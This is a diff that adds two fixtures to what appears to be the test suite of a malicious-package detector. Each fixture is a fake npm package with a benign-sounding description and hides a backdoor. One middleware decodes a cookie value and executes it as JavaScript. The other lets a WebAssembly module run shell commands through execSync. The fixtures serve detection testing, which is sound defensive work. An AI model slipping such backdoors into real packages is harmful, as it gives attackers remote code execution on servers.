@@ -156,4 +156,39 @@ spawn('python3', ['-c', lines.join('\\n')], { detached: true, stdio: 'ignore' })
     expect: 'warn',
     happens: { at: 'install', does: 'spawns' },
   },
+  {
+    name: 'backdoor-cookie',
+    from,
+    files: {
+      'package.json': manifest({ name: 'inert-compression', description: 'Compresses answers' }),
+      'index.js': `const vm = require('vm');
+module.exports = () => (req, res, next) => {
+  const found = (req.headers.cookie || '').split(';').map(one => one.trim().split('=')).find(([name]) => name === 'inert');
+  if (!found) return next();
+  res.end(String(vm.runInThisContext(Buffer.from(found[1], 'base64').toString())));
+};
+`,
+    },
+    expect: 'warn',
+    says: ['obeys-network-requests'],
+  },
+  {
+    name: 'backdoor-lent-to-wasm',
+    from,
+    files: {
+      'package.json': manifest({ name: 'inert-codec', description: 'Reads pictures' }),
+      'index.js': `const fs = require('fs');
+const cp = require('child_process');
+let memory;
+const lent = { env: { run: (at, length) => cp.execSync(Buffer.from(memory.buffer, at, length).toString()) } };
+WebAssembly.instantiate(fs.readFileSync(__dirname + '/codec.wasm'), lent).then(made => {
+  memory = made.instance.exports.memory;
+  made.instance.exports.start();
+});
+`,
+    },
+    bytes: { 'codec.wasm': '\0asm\u0001\0\0\0' },
+    expect: 'warn',
+    says: ['runs-data-as-code'],
+  },
 ];
